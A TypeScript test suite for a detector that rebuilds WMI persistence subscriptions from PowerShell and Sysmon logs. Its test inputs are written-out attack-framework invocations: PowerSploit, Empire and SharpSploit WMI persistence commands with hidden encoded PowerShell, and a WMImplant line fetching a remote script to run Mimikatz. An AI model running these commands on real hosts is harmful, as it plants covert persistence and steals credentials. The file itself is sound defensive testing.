/**
 * Well-known frameworks' WMI persistence read from PowerShell text by their parameters (events/psframeworks.ts).
 * The script blocks below are written here in each framework's documented invocation shape (parameters from its
 * public source), not copied from it.
 *
 * - PowerSploit `New-ElevatedPersistenceOption -PermanentWMI -Daily -At` / `-AtStartup` (script block or 4103
 *   ParameterBinding lines): "Updater", its queries;
 *   the script Add-Persistence generates (its Set-WmiInstance lines) with the binding resolved.
 * - Empire persistence/elevated/wmi (generated Set-WmiInstance script): names, startup / daily / day-of-week /
 *   failed-logon queries, the binding, the payload computed at run time ($Env:SystemRoot).
 * - SharpSploit `InstallWMIPersistence` (Covenant's PersistWMI): names, classes, payload, trigger — and the same
 *   values as the Sysmon 19/20/21 records of a real Covenant PersistWMI run (OTRF fixture), whose logs hold no
 *   PowerShell record of it (PersistWMI is .NET).
 * - WMImplant: creates no subscription; the real WMImplant sample gives no finding.
 * - Scan: a framework call in a 4104 record (synthetic, written to a temporary file) is a finding alone, and joins the
 *   real OTRF Sysmon/WMI-Activity records of the same run as one subscription.
 * - Hostile: huge, repeated, unterminated invocations are read in bounded work with bounded output.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { scan } from '../src/scan.js';
import { FRAMEWORKS, TEMPLATES, powershellReconstructed, reconstructPowerShell, timeOfDay } from '../src/events/index.js';
import type { ReconstructedObject } from '../src/events/index.js';
import { evtxSample, repoRoot, skipReason } from './support/samples.js';

const part = (out: ReconstructedObject[], p: ReconstructedObject['part'], name?: string): ReconstructedObject => {
  const o = out.find((x) => x.part === p && (name === undefined || x.name === name));
  assert.ok(o, `no ${p} ${name ?? ''} in ${JSON.stringify(out)}`);
  return o;
};
const prop = (o: ReconstructedObject, k: string): string | undefined => Object.entries(o.properties).find(([key]) => key.toLowerCase() === k.toLowerCase())?.[1];

const STARTUP = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325";

test('the table: every framework names its source, commands and what PowerShell logs show', () => {
  assert.deepEqual(FRAMEWORKS.map((f) => f.commands[0]), ['New-ElevatedPersistenceOption', '[SharpSploit.Persistence.WMI]::InstallWMIPersistence', 'Invoke-WMImplant']);
  for (const f of [...FRAMEWORKS, ...TEMPLATES]) assert.match(f.source, /^[\w-]+\/[\w-]+ /, f.name);
  for (const f of FRAMEWORKS) assert.ok(f.note.length > 0, f.name);
});

test('PowerSploit -PermanentWMI -Daily -At: filter and consumer "Updater", the local-time query, the binding; payload computed at run time', () => {
  const out = reconstructPowerShell("Import-Module .\\Persistence.psm1\n$ElevatedOptions = New-ElevatedPersistenceOption -PermanentWMI -Daily -At '3 PM'\n$UserOptions = New-UserPersistenceOption -Registry -AtLogon\nAdd-Persistence -FilePath .\\EvilPayload.ps1 -ElevatedPersistenceOption $ElevatedOptions -UserPersistenceOption $UserOptions");
  assert.equal(out.length, 3);
  const filter = part(out, 'filter', 'Updater');
  const consumer = part(out, 'consumer', 'Updater');
  const binding = part(out, 'binding');
  assert.equal(filter.namespace, 'ROOT\\subscription');
  assert.equal(filter.properties['Query'], "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime' AND TargetInstance.Hour = 15 AND TargetInstance.Minute = 00 GROUP WITHIN 60");
  assert.equal(filter.properties['EventNamespace'], 'root\\CimV2');
  assert.equal(consumer.className, 'CommandLineEventConsumer');
  assert.deepEqual(consumer.computed, ['CommandLineTemplate']); // $Env:SystemRoot\…\powershell.exe -NonInteractive, expanded on the host
  assert.equal(consumer.properties['RunInteractively'], 'false');
  assert.deepEqual([binding.properties['Filter'], binding.properties['Consumer']], ['__EventFilter.Name="Updater"', 'CommandLineEventConsumer.Name="Updater"']);
  assert.ok(out.every((o) => o.technique === 'New-ElevatedPersistenceOption -PermanentWMI (PowerSploit Add-Persistence)'));
});

test('PowerSploit -AtStartup, -At computed, no WMI option, help examples and the function definition', () => {
  assert.equal(part(reconstructPowerShell('$e = New-ElevatedPersistenceOption -PermanentWMI -AtStartup'), 'filter').properties['Query'], STARTUP);
  const computed = reconstructPowerShell('$t = Get-Date\n$e = New-ElevatedPersistenceOption -PermanentWMI -Daily -At $t');
  assert.deepEqual(part(computed, 'filter').computed, ['Query']);
  assert.equal(part(computed, 'filter').name, 'Updater');
  assert.deepEqual(reconstructPowerShell('New-ElevatedPersistenceOption -ScheduledTask -OnIdle'), []);
  assert.deepEqual(reconstructPowerShell('New-ElevatedPersistenceOption -PermanentWMI -OnIdle'), [], 'no such parameter set: Add-Persistence throws');
  // the module's own text, as a 4104 record logs it when it is imported: help examples and the definition create nothing
  const module = "function New-ElevatedPersistenceOption\n{\n<#\n.EXAMPLE\n\n    C:\\PS> $ElevatedOptions = New-ElevatedPersistenceOption -PermanentWMI -Daily -At '3 PM'\n#>\n    [CmdletBinding()] Param ( [Switch] $PermanentWMI )\n}\n# New-ElevatedPersistenceOption -PermanentWMI -AtStartup";
  assert.deepEqual(reconstructPowerShell(module), []);
});

test('PowerSploit -At: the time forms its help documents, others computed', () => {
  assert.deepEqual(timeOfDay('3 PM'), { hh: '15', mm: '00' });
  assert.deepEqual(timeOfDay('12:31 AM'), { hh: '00', mm: '31' });
  assert.deepEqual(timeOfDay('23:00:00'), { hh: '23', mm: '00' });
  assert.deepEqual(timeOfDay('4:06:26 PM'), { hh: '16', mm: '06' });
  assert.deepEqual(timeOfDay('12 PM'), { hh: '12', mm: '00' });
  assert.deepEqual(timeOfDay('12/7/2026 3:00:00 PM'), { hh: '15', mm: '00' }, 'a 4103 rendering of the bound DateTime');
  assert.deepEqual(timeOfDay('07.12.2026 15:05:00'), { hh: '15', mm: '05' });
  for (const bad of ['25:00', '13 PM', '3:61', 'noon', '', '1'.repeat(100)]) assert.equal(timeOfDay(bad), null, bad);
});

test('PowerSploit in 4103 ParameterBinding lines (module logging): the bound switches and DateTime', () => {
  const details = [
    'CommandInvocation(New-ElevatedPersistenceOption): "New-ElevatedPersistenceOption"',
    'ParameterBinding(New-ElevatedPersistenceOption): name="PermanentWMI"; value="True"',
    'ParameterBinding(New-ElevatedPersistenceOption): name="Daily"; value="True"',
    'ParameterBinding(New-ElevatedPersistenceOption): name="At"; value="12/7/2026 11:45:00 PM"',
    'ParameterBinding(Out-Null): name="InputObject"; value="x"',
  ].join('\r\n');
  const out = reconstructPowerShell(details);
  assert.equal(out.length, 3);
  assert.match(part(out, 'filter', 'Updater').properties['Query']!, /Hour = 23 AND TargetInstance\.Minute = 45 GROUP WITHIN 60$/);
  assert.deepEqual(reconstructPowerShell('ParameterBinding(New-ElevatedPersistenceOption): name="ScheduledTask"; value="True"\r\nParameterBinding(New-ElevatedPersistenceOption): name="OnIdle"; value="True"'), []);
});

// The elevated trigger PowerSploit's Add-Persistence writes (and Empire's module, derived from it), as `iex` runs it
const trio = (name: string, query: string, payload: string): string =>
  `$Filter=Set-WmiInstance -Class __EventFilter -Namespace "root\\subscription" -Arguments @{name='${name}';EventNameSpace='root\\CimV2';QueryLanguage="WQL";Query="${query}"};` +
  `$Consumer=Set-WmiInstance -Namespace "root\\subscription" -Class 'CommandLineEventConsumer' -Arguments @{ name='${name}';CommandLineTemplate="${payload}";RunInteractively='false'};` +
  ` Set-WmiInstance -Namespace "root\\subscription" -Class __FilterToConsumerBinding -Arguments @{Filter=$Filter;Consumer=$Consumer} | Out-Null;`;

test('the script PowerSploit Add-Persistence generates: Set-WmiInstance filter and consumer, the binding resolved from $Filter/$Consumer', () => {
  const out = reconstructPowerShell(trio('Updater', STARTUP, '$($Env:SystemRoot)\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NonInteractive'));
  assert.equal(out.length, 3);
  assert.equal(part(out, 'filter', 'Updater').properties['Query'], STARTUP);
  assert.deepEqual(part(out, 'consumer', 'Updater').computed, ['CommandLineTemplate']);
  const b = part(out, 'binding');
  assert.deepEqual([b.properties['Filter'], b.properties['Consumer']], ['__EventFilter.Name="Updater"', 'CommandLineEventConsumer.Name="Updater"']);
  assert.ok(out.every((o) => o.technique === 'PowerSploit Add-Persistence -PermanentWMI or Empire WMI persistence (generated script)'));
});

test('Empire persistence/elevated/wmi: names, startup / daily / day-of-week / failed-logon triggers, bindings, the -enc payload computed', () => {
  const enc = '$($Env:SystemRoot)\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NonI -W hidden -enc SQBmACgAJABQAFMA';
  const startup = reconstructPowerShell(trio('Updater', STARTUP, enc) + "'WMI persistence established using listener http with OnStartup WMI subsubscription trigger.'");
  assert.equal(startup.length, 3);
  assert.ok(startup.every((o) => o.technique === 'Empire persistence/elevated/wmi or wmi_updater (generated script)'));
  assert.deepEqual(part(startup, 'consumer', 'Updater').computed, ['CommandLineTemplate']);
  assert.equal(part(startup, 'binding').properties['Consumer'], 'CommandLineEventConsumer.Name="Updater"');

  // DailyTime 09:30 with DayOfWeek 2: a dummy "_Name" subscription first, then the real one; each binding to its own pair
  const daily = (d: string): string => `SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime'${d} AND (TargetInstance.Hour = 09) AND (TargetInstance.Minute = 30) GROUP WITHIN 60`;
  const week = reconstructPowerShell(trio('_AutoUpdater', daily(' AND (TargetInstance.DayOfWeek=2 OR TargetInstance.DayOfWeek=3)'), 'call') + trio('AutoUpdater', daily(' AND (TargetInstance.DayOfWeek=2)'), enc) + "'WMI persistence established using listener http with WMI subscription trigger at 09:30 every day of week: 2 (0-6).'");
  assert.equal(week.length, 6);
  assert.equal(part(week, 'filter', 'AutoUpdater').properties['Query'], daily(' AND (TargetInstance.DayOfWeek=2)'));
  assert.equal(prop(part(week, 'consumer', '_AutoUpdater'), 'CommandLineTemplate'), 'call');
  assert.deepEqual(
    week.filter((o) => o.part === 'binding').map((b) => b.properties['Filter']),
    ['__EventFilter.Name="_AutoUpdater"', '__EventFilter.Name="AutoUpdater"'],
  );

  const failed = reconstructPowerShell('auditpol /set /subcategory:Logon /failure:enable;' + trio('Updater', "SELECT * FROM __InstanceCreationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_NTLogEvent' AND TargetInstance.EventCode='4625' AND TargetInstance.Message LIKE '%bob%'", enc) + "'WMI persistence established using listener http with trigger upon failed logon by bob'");
  assert.match(part(failed, 'filter', 'Updater').properties['Query']!, /EventCode='4625' AND TargetInstance\.Message LIKE '%bob%'/);
});

test('a Set-WmiInstance script that is no framework template keeps the generic reading (binding computed)', () => {
  const s = "$f = Set-WmiInstance -Namespace root/subscription -Class __EventFilter -Arguments @{Name='F'; Query='SELECT * FROM __TimerEvent'}\n$b = Set-WmiInstance -Namespace root/subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f; Consumer=$c}";
  const out = reconstructPowerShell(s);
  assert.deepEqual(part(out, 'binding').computed, ['Filter', 'Consumer']);
  assert.ok(out.every((o) => o.technique === 'Set-WmiInstance'));
});

test('SharpSploit InstallWMIPersistence from PowerShell (Covenant PersistWMI): command-line and ActiveScript consumers, the process-start trigger', () => {
  const cmd = reconstructPowerShell("[Reflection.Assembly]::Load([IO.File]::ReadAllBytes('C:\\t\\SharpSploit.dll')) | Out-Null\n[SharpSploit.Persistence.WMI]::InstallWMIPersistence('Evil Persistence', 'ProcessStart', 'CommandLine', 'powershell -Sta -Nop -Window Hidden -EncodedCommand <blah>', 'notepad.exe', 'VBScript')");
  assert.equal(cmd.length, 3);
  const consumer = part(cmd, 'consumer', 'Evil Persistence');
  assert.equal(consumer.className, 'CommandLineEventConsumer');
  assert.equal(consumer.properties['CommandLineTemplate'], 'powershell -Sta -Nop -Window Hidden -EncodedCommand <blah>');
  assert.equal(part(cmd, 'filter', 'Evil Persistence').properties['Query'], "select * from Win32_ProcessStartTrace where ProcessName='notepad.exe'");
  assert.equal(part(cmd, 'filter').properties['EventNamespace'], 'root/cimv2');
  assert.equal(part(cmd, 'binding').properties['Consumer'], 'CommandLineEventConsumer.Name="Evil Persistence"');

  const script = reconstructPowerShell("$n = 'Upd'\n$js = 'var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"calc.exe\");'\n[SharpSploit.Persistence.WMI]::InstallWMIPersistence($n, [SharpSploit.Persistence.WMI+EventFilter]::ProcessStart, [SharpSploit.Persistence.WMI+EventConsumer]::ActiveScript, $js, 'calc.exe', [SharpSploit.Persistence.WMI+ScriptingEngine]::JScript)");
  const as = part(script, 'consumer', 'Upd');
  assert.equal(as.className, 'ActiveScriptEventConsumer');
  assert.equal(as.properties['ScriptingEngine'], 'JScript');
  assert.equal(as.properties['ScriptText'], 'var s = new ActiveXObject("WScript.Shell"); s.Run("calc.exe");');
  assert.equal(part(script, 'filter').properties['Query'], "select * from Win32_ProcessStartTrace where ProcessName='calc.exe'");

  // defaults (notepad.exe, VBScript), a computed payload, an unknown trigger
  const dflt = reconstructPowerShell("[SharpSploit.Persistence.WMI]::InstallWMIPersistence('D', 'ProcessStart', 'ActiveScript', (Get-Content .\\x.vbs -Raw))");
  assert.equal(part(dflt, 'consumer').properties['ScriptingEngine'], 'VBScript');
  assert.deepEqual(part(dflt, 'consumer').computed, ['ScriptText']);
  assert.match(part(dflt, 'filter').properties['Query']!, /'notepad\.exe'$/);
  assert.deepEqual(reconstructPowerShell("[SharpSploit.Persistence.WMI]::InstallWMIPersistence('X', 'Logon', 'CommandLine', 'calc')"), []);
});

test('real Covenant PersistWMI run (OTRF nxlog fixture): its Sysmon 19/20/21 values are what the SharpSploit mapping gives; no PowerShell record of it', async () => {
  const fixture = join(repoRoot(), 'test/fixtures/exports/otrf-covenant-persistwmi.nxlog.jsonl');
  const r = await scan([fixture], { threads: 1 });
  const f = r.findings.find((x) => x.consumer?.name === 'Evil Persistence');
  assert.ok(f, r.findings.map((x) => x.summary).join(' | '));
  assert.ok(!f.observations.some((o) => o.source === 'powershell'), 'PersistWMI is .NET: no PowerShell view');
  const out = reconstructPowerShell("[SharpSploit.Persistence.WMI]::InstallWMIPersistence('Evil Persistence', 'ProcessStart', 'CommandLine', 'powershell -Sta -Nop -Window Hidden -EncodedCommand <blah>', 'notepad.exe', 'VBScript')");
  assert.equal(part(out, 'filter').properties['Query'], f.filter?.values['Query']);
  assert.equal(part(out, 'filter').properties['EventNamespace'], f.filter?.values['EventNamespace']);
  assert.equal(part(out, 'consumer').className, f.consumer?.className);
  assert.equal(part(out, 'consumer').properties['CommandLineTemplate'], f.consumer?.values['CommandLineTemplate']);
  assert.equal(part(out, 'binding').properties['Filter'], '__EventFilter.Name="Evil Persistence"');
});

/** A 4104 record (evtx-crate JSON rendering) of host IT001.shire.com holding `script`, written here (synthetic) to a temporary file. */
function script4104(dir: string, script: string): string {
  const rec = {
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-PowerShell' } },
        EventID: 4104,
        Channel: 'Microsoft-Windows-PowerShell/Operational',
        Computer: 'IT001.shire.com',
        EventRecordID: 1,
        TimeCreated: { '#attributes': { SystemTime: '2019-12-05T04:47:54.000Z' } },
        Security: { '#attributes': { UserID: 'S-1-5-21-791464340-1796667228-2788435825-1112' } },
      },
      EventData: { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: script, ScriptBlockId: '{0}', Path: '' },
    },
  };
  const f = join(dir, 'ps-4104.json');
  writeFileSync(f, `Record 1\n${JSON.stringify(rec, null, 2)}\n`);
  return f;
}

test('scan: a framework invocation alone is a finding with its names; beside the real records of the same run it joins them as one subscription', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'wmiscope-psfw-'));
  try {
    const sharp = script4104(dir, "[SharpSploit.Persistence.WMI]::InstallWMIPersistence('Evil Persistence', 'ProcessStart', 'CommandLine', 'powershell -Sta -Nop -Window Hidden -EncodedCommand <blah>', 'notepad.exe', 'VBScript')");
    const fixture = join(repoRoot(), 'test/fixtures/exports/otrf-covenant-persistwmi.nxlog.jsonl');
    const both = await scan([sharp, fixture], { threads: 1 });
    assert.equal(both.findings.length, 1, both.findings.map((x) => x.summary).join(' | '));
    const f = both.findings[0]!;
    assert.equal(f.consumer?.name, 'Evil Persistence');
    assert.deepEqual([...new Set(f.observations.map((o) => o.source))].sort(), ['powershell', 'sysmon', 'wmi-activity']);
    const ps = f.observations.filter((o) => o.source === 'powershell');
    assert.deepEqual(ps.map((o) => o.part).sort(), ['binding', 'consumer', 'filter']);
    assert.ok(ps.every((o) => o.meta['technique'] === 'SharpSploit InstallWMIPersistence (Covenant PersistWMI)'));

    const alone = await scan([script4104(dir, '$e = New-ElevatedPersistenceOption -PermanentWMI -AtStartup')], { threads: 1 });
    assert.equal(alone.findings.length, 1);
    const p = alone.findings[0]!;
    assert.deepEqual([p.filter?.name, p.consumer?.name, p.consumer?.className], ['Updater', 'Updater', 'CommandLineEventConsumer']);
    assert.equal(p.filter?.values['Query'], STARTUP);
    assert.ok(p.severity === 'high' || p.severity === 'critical', p.severity);
    assert.ok(p.reasons.some((r) => r.id === 'trigger-uptime'), p.reasons.map((r) => r.id).join(','));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('WMImplant creates no subscription: its invocations give nothing, and the real WMImplant sample gives no finding', { skip: skipReason }, async () => {
  for (const s of [
    'Invoke-WMImplant -CommandExec -RemoteCommand "whoami" -ComputerName win7',
    'Invoke-WMImplant -RemotePosh -Location http://x/a.ps1 -Function Invoke-Mimikatz -ComputerName win7',
    'Invoke-WMImplant -ServiceMod -ServiceCreate -ServiceName Evil -RemoteFile C:\\e.exe -ComputerName win7',
  ])
    assert.deepEqual(reconstructPowerShell(s), [], s);
  const r = await scan([evtxSample('hayabusa-sample-evtx/ID1-WMI spwaning PowerShell process - WMImplant.evtx')], { threads: 1 });
  assert.equal(r.findings.length, 0, r.findings.map((f) => f.summary).join(' | '));
});

test('a 4104 record holding a framework invocation becomes its objects (the events entry point)', () => {
  const rec = { Event: { System: { EventID: 4104 }, EventData: { ScriptBlockText: "$e = New-ElevatedPersistenceOption -PermanentWMI -AtStartup" } } };
  const out = powershellReconstructed(rec);
  assert.deepEqual(out.map((o) => `${o.part}:${o.name}`).sort(), ['binding:null', 'consumer:Updater', 'filter:Updater']);
  assert.ok(out.every((o) => o.text.includes('New-ElevatedPersistenceOption')));
});

test('hostile: huge, repeated, unterminated invocations are read in bounded work with bounded output', () => {
  const texts = [
    '[SharpSploit.Persistence.WMI]::InstallWMIPersistence(' + "'a', ".repeat(200_000),
    '[SharpSploit.Persistence.WMI]::InstallWMIPersistence(' + '('.repeat(200_000),
    "[SharpSploit.Persistence.WMI]::InstallWMIPersistence('a','ProcessStart','CommandLine','c')\n".repeat(20_000),
    'New-ElevatedPersistenceOption -PermanentWMI -AtStartup\n'.repeat(20_000),
    '<#'.repeat(100_000) + 'New-ElevatedPersistenceOption -PermanentWMI -AtStartup',
    '#'.repeat(300_000) + '\nNew-ElevatedPersistenceOption -PermanentWMI -AtStartup',
    trio('U', STARTUP, 'x').repeat(5_000) + "'WMI persistence established'",
    'ParameterBinding(New-ElevatedPersistenceOption): name="PermanentWMI"; value="True"\r\nParameterBinding(New-ElevatedPersistenceOption): name="AtStartup"; value="' + 'x'.repeat(300_000),
    'ParameterBinding(New-ElevatedPersistenceOption): name="PermanentWMI"; value="True"\r\n'.repeat(50_000),
  ];
  for (const s of texts) {
    const out = reconstructPowerShell(s);
    assert.ok(out.length <= 64 * 3 * 2, `${out.length} objects`);
  }
  assert.equal(reconstructPowerShell(texts[2]!).length, 64 * 3, 'the calls inside the limits are read');
});
